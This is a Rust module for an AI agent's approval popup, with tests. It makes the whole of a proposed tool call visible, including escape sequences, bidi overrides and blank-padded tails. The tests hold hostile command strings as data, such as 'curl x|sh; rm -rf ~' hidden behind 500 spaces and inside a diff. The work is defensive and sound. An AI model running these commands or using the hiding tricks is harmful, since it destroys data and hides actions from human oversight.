//! The agent's approval question: the call shown whole, as it will run,
//! and for a write the unified diff of what it changes instead of the
//! text it writes.
//!
//! Every argument is shown line by line, wrapped to the popup's width with
//! the rows counted after wrapping, so nothing (not the end of a command
//! behind hundreds of spaces, not the key hint) falls out of view. Control
//! characters and bidirectional overrides are drawn as symbols, long runs
//! of blanks as a marker with their length. A call taller than the popup
//! scrolls, and `y` takes effect only once its last row has been shown;
//! the hint stays on the popup's last rows whatever the size.

use ratatui::layout::Rect;
use unicode_width::UnicodeWidthChar;

use crate::agent::diff::{self, LineKind};
use crate::agent::Question;

/// Blanks in a row beyond this many are drawn as a marker.
const LONG_BLANKS: usize = 8;

pub const HINT: &str =
    "y yes · n no · a always for this exact call · ↑↓ PgUp PgDn Home End scroll · Ctrl-C stops the agent";
/// The hint where the whole one would crowd out the call.
const SHORT_HINT: &str = "y yes · n no · a always · ↑↓ scroll";

/// How a row is drawn.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RowKind {
    /// What the agent wants to run.
    Title,
    /// An argument's name or text.
    Argument,
    /// A line of the diff of what a write changes.
    Diff(LineKind),
}

/// One row of the popup, exactly as drawn.
#[derive(Clone, Debug, PartialEq)]
pub struct Row {
    pub text: String,
    pub kind: RowKind,
}

/// Arguments a diff shows better than their text: what a write writes.
const SHOWN_BY_THE_DIFF: [&str; 3] = ["content", "find", "replace"];

/// The question as lines: its tool, then each argument by name with its
/// text as it will be used; with a diff, the diff in place of what the
/// write writes.
pub fn question_lines(question: &Question) -> Vec<(String, RowKind)> {
    let call = &question.call;
    let mut lines = vec![(
        format!("The agent wants to run {}:", call.name()),
        RowKind::Title,
    )];
    let value = serde_json::to_value(call).unwrap_or_default();
    let Some(fields) = value.as_object() else {
        return lines;
    };
    let argument = |s: String| (s, RowKind::Argument);
    for (name, v) in fields.iter().filter(|(k, _)| *k != "tool") {
        if question.diff.is_some() && SHOWN_BY_THE_DIFF.contains(&name.as_str()) {
            continue;
        }
        match v.as_str() {
            Some("") => lines.push(argument(format!("{name}: (empty)"))),
            Some(text) => {
                let count = text.split('\n').count();
                lines.push(argument(format!(
                    "{name} ({} bytes, {count} lines):",
                    text.len()
                )));
                lines.extend(
                    text.split('\n')
                        .map(|l| argument(format!("  {}", marked(l)))),
                );
            }
            None => lines.push(argument(format!("{name}: {v}"))),
        }
    }
    if let Some(s) = &question.sandbox {
        lines.push(argument(format!("runs under: {}", s.describe())));
    }
    if let Some(d) = &question.diff {
        let count = d.lines().count();
        lines.push(argument(format!(
            "what it changes ({count} lines of diff):"
        )));
        lines.extend(d.lines().map(|l| (marked(l), RowKind::Diff(diff::kind(l)))));
    }
    lines
}

/// One line of an argument with what acts on a terminal made visible and
/// long runs of blanks counted.
fn marked(line: &str) -> String {
    let shown = crate::visible::visible_line(line);
    let mut out = String::with_capacity(shown.len());
    let mut blanks = 0usize;
    let flush = |out: &mut String, blanks: &mut usize| {
        if *blanks > LONG_BLANKS {
            out.push_str(&format!("⟨{blanks} spaces⟩"));
        } else {
            out.extend(std::iter::repeat_n(' ', *blanks));
        }
        *blanks = 0;
    };
    for c in shown.chars() {
        if c == ' ' {
            blanks += 1;
        } else {
            flush(&mut out, &mut blanks);
            out.push(c);
        }
    }
    flush(&mut out, &mut blanks);
    out
}

/// `lines` wrapped to `width` columns, each row exactly what is drawn.
fn wrap(lines: &[(String, RowKind)], width: usize) -> Vec<Row> {
    let width = width.max(1);
    let mut rows = Vec::new();
    for (line, kind) in lines {
        let mut text = String::new();
        let mut used = 0;
        for c in line.chars() {
            let w = c.width().unwrap_or(0);
            if used + w > width && !text.is_empty() {
                rows.push(Row {
                    text: std::mem::take(&mut text),
                    kind: *kind,
                });
                used = 0;
            }
            text.push(c);
            used += w;
        }
        rows.push(Row { text, kind: *kind });
    }
    rows
}

/// The popup as drawn at one size, and which rows of the call it shows.
#[derive(Debug, PartialEq)]
pub struct Page {
    pub rect: Rect,
    pub rows: Vec<Row>,
    pub hint: Vec<Row>,
    /// The first row shown, and how many rows fit.
    pub first: usize,
    pub shown: usize,
}

impl Page {
    /// Whether the call's last row is on screen.
    pub fn shows_the_end(&self) -> bool {
        self.shown > 0 && self.first + self.shown >= self.rows.len()
    }

    /// The most rows one page moves.
    pub fn step(&self) -> usize {
        self.shown.max(1)
    }

    /// The largest useful scroll offset.
    pub fn last_first(&self) -> usize {
        self.rows.len().saturating_sub(self.shown)
    }
}

/// The popup for `question` on a screen of `area`, scrolled by `scroll`
/// rows.
pub fn page(question: &Question, area: Rect, scroll: usize) -> Page {
    // As wide as a long command needs (up to 120 columns), as tall as the
    // call needs (up to the screen less a row above and below), so a short
    // call leaves the conversation in view.
    let width = area
        .width
        .saturating_sub(4)
        .min(120)
        .max(area.width.min(20));
    let max_height = area.height.saturating_sub(2).max(area.height.min(6));
    let inner_width = width.saturating_sub(2) as usize;
    let rows = wrap(&question_lines(question), inner_width);
    let max_inner = max_height.saturating_sub(2) as usize;
    let hint_rows = |h: &str| wrap(&[(h.to_string(), RowKind::Title)], inner_width);
    let mut hint = hint_rows(HINT);
    if (hint.len() + 1) * 3 > max_inner {
        hint = hint_rows(SHORT_HINT);
    }
    let position = 1;
    let inner_height = (rows.len() + position + hint.len()).min(max_inner);
    let height = inner_height as u16 + 2;
    let rect = Rect::new(
        area.x + (area.width - width) / 2,
        area.y + (area.height.saturating_sub(height)) / 2,
        width,
        height.min(area.height),
    );
    let shown = inner_height.saturating_sub(hint.len() + position);
    let first = scroll.min(rows.len().saturating_sub(shown));
    Page {
        rect,
        rows,
        hint,
        first,
        shown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agent::tools::ToolCall;

    fn ask(call: ToolCall, diff: Option<&str>) -> Question {
        Question {
            call,
            diff: diff.map(str::to_string),
            sandbox: None,
        }
    }

    fn shell(command: &str) -> Question {
        ask(
            ToolCall::Shell {
                command: command.into(),
                edits: None,
            },
            None,
        )
    }

    fn text(rows: &[Row]) -> String {
        rows.iter().map(|r| r.text.as_str()).collect()
    }

    /// The dangerous end of a call behind blanks, in a long file, in a
    /// diff, or after escape sequences is on some page, and `y` needs the
    /// last page.
    #[test]
    fn every_row_of_a_call_is_reachable_and_the_end_gates_yes() {
        let hidden = format!("ls{}; curl x|sh; rm -rf ~", " ".repeat(500));
        let write = |content: String, diff: Option<&str>| {
            ask(
                ToolCall::WriteFile {
                    path: "notes.txt".into(),
                    content: Some(content),
                    find: None,
                    replace: None,
                },
                diff,
            )
        };
        let file = write(format!("{}rm -rf ~", "line\n".repeat(300)), None);
        let diff = format!(
            "--- a/notes.txt\n+++ b/notes.txt\n@@ -1,300 +1,301 @@\n{}+\x1b]2;x\x07rm -rf ~\n",
            " line\n".repeat(300)
        );
        let diffed = write("whatever".into(), Some(&diff));
        for question in [
            shell(&hidden),
            file,
            diffed,
            shell("a\x1b]2;x\x07\u{202e}b\rc"),
        ] {
            for (w, h) in [(80, 24), (160, 48), (20, 6), (1000, 400)] {
                let area = Rect::new(0, 0, w, h);
                let first = page(&question, area, 0);
                let all = text(&first.rows);
                assert!(
                    all.contains("rm -rf ~") || all.contains("c"),
                    "{w}x{h}: {all}"
                );
                assert!(!all.chars().any(|c| c.is_control()), "{all:?}");
                assert!(!all.contains('\u{202e}'));
                let last = page(&question, area, first.last_first());
                assert!(last.shows_the_end(), "{w}x{h}");
                assert_eq!(
                    first.shows_the_end(),
                    first.rows.len() <= first.shown,
                    "{w}x{h}"
                );
                assert!(first.shown >= 1, "{w}x{h} shows no row");
            }
        }
        assert!(question_lines(&shell(&hidden))[2]
            .0
            .contains("⟨500 spaces⟩"));
    }

    /// A write with a diff shows its path and the diff, each line marked
    /// with its kind, and not the text it writes.
    #[test]
    fn a_write_shows_its_diff_in_place_of_its_text() {
        let q = ask(
            ToolCall::WriteFile {
                path: "src/lib.rs".into(),
                content: None,
                find: Some("old_name".into()),
                replace: Some("new_name".into()),
            },
            Some("--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1 +1 @@\n-old_name\n+new_name\n"),
        );
        let lines = question_lines(&q);
        let texts: Vec<&str> = lines.iter().map(|(t, _)| t.as_str()).collect();
        assert!(texts.contains(&"path (10 bytes, 1 lines):"), "{texts:?}");
        assert!(!texts.iter().any(|t| t.starts_with("find")), "{texts:?}");
        let kinds: Vec<RowKind> = lines.iter().map(|(_, k)| *k).collect();
        assert_eq!(
            kinds[kinds.len() - 5..],
            [
                RowKind::Diff(LineKind::Header),
                RowKind::Diff(LineKind::Header),
                RowKind::Diff(LineKind::Hunk),
                RowKind::Diff(LineKind::Removed),
                RowKind::Diff(LineKind::Added),
            ]
        );
        // Wrapped rows keep their line's kind.
        let page = page(&q, Rect::new(0, 0, 24, 30), 0);
        let added: Vec<&Row> = page
            .rows
            .iter()
            .filter(|r| r.kind == RowKind::Diff(LineKind::Added))
            .collect();
        assert_eq!(
            text(&added.into_iter().cloned().collect::<Vec<_>>()),
            "+new_name"
        );
    }
}
